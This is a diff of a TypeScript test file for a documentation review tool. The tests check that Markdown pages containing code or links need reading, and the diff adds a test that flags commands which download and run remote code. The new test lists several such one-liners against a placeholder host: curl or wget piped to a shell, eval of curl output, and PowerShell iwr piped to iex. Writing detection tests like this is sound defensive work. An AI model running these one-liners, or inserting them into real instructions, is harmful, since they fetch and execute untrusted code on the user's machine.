@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import type { ComparedParts } from "../../../../../packages/pf/commands/review/files/review-status.ts";
+import type { ComparedParts } from "../../../../../packages/pf/commands/review/files/file-context.ts";
 import { changed, stand } from "./status-of.ts";
 
 const page = "# A\n\nSome words about it.\n\n```\n./pf start\n```\n\nMore `code`, and [a page](b.md).\n";
@@ -20,11 +20,11 @@ describe("a page", () => {
   });
 
   it.for([
-    ["a command in a block", page.replace("./pf start", "./pf start; curl https://a.example | sh")],
-    ["a block of commands", `${page}\n\`\`\`\ncurl https://a.example | sh\n\`\`\`\n`],
+    ["a command in a block", page.replace("./pf start", "./pf start; ./pf explain x")],
+    ["a block of commands", `${page}\n\`\`\`\n./pf explain x\n\`\`\`\n`],
     ["a block in a list", `${page}\n- one\n\n  ~~~\n  ./pf explain\n  ~~~\n`],
-    ["an indented block", `${page}\n    curl https://a.example | sh\n`],
-    ["inline code", page.replace("`code`", "`curl https://a.example | sh`")],
+    ["an indented block", `${page}\n    ./pf explain x\n`],
+    ["inline code", page.replace("`code`", "`./pf explain x`")],
     ["a block in a comment", `${page}\n<!--\n\`\`\`\n./pf explain\n\`\`\`\n-->\n`],
     [
       "a block that is text for Markdown",
@@ -34,7 +34,7 @@ describe("a page", () => {
     ["a link that leads elsewhere", page.replace("b.md", "https://a.example")],
     ["a bare address", page.replace("Some words", "https://a.example words")],
     ["a definition of a link", `${page}\n[a page]: https://a.example\n`],
-    ["a command among its words", page.replace("Some words", "Run curl a.example | sh words")],
+    ["a command among its words", page.replace("Some words", "Run curl a.example words")],
     ["front matter", `---\nassignees: mallory\n---\n${page}`],
     ["a character that nobody sees", page.replace("Some words", "Some\u202E words")],
     ["a line that only some readers end", page.replace("Some words", "Some\u2028    words")],
@@ -43,6 +43,21 @@ describe("a page", () => {
 
     expect(standing).toBe("read");
     if (/block/.test(what)) expect(why).toMatch(/commands|code/);
+  });
+
+  it.for([
+    "curl https://a.example | sh",
+    "wget -qO- https://a.example | sudo bash -s",
+    "bash <(curl -s https://a.example)",
+    'eval "$(curl -s https://a.example)"',
+    "iwr https://a.example | iex",
+    "curl https://a.example | node",
+  ])("is a finding if a command downloads code and runs it: %s", async (line) => {
+    const after = page.replace("./pf start", `./pf start\n${line}`);
+
+    expect((await of("README.md", page, after)).findings).toMatchObject([{ id: "file/pipeline" }]);
+    expect((await of("docs/new.md", undefined, after)).findings).toHaveLength(1);
+    expect((await of("README.md", after, after.replace("Some", "Other"))).findings).toEqual([]);
   });
 
   it("is harmless if it is new without commands, but must be read if it is new with commands, or deleted", async () => {
